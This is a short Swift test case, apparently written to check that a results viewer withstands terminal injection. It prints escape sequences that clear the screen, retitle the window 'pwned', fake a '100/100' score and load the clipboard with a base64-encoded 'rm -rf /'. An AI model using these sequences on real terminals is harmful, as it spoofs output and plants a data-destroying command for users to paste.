// Attack: takes over the terminal of whoever reads the results.
// Tries: escape sequences that clear the screen, set the title, fill the clipboard and move the cursor.
// Must: failed

func attack() -> Bool {
  let sequences = ["[2J[H", "]0;pwned\u{7}", "]52;c;cm0gLXJmIC8=\u{7}", "[1A[2K100/100", "P+q544e\\", "[?1049h"]
  for sequence in sequences { print("\u{1b}\(sequence)") }
  print("\u{9b}2J\r\u{8}\u{8}\u{7}\u{0}")
  return false
}
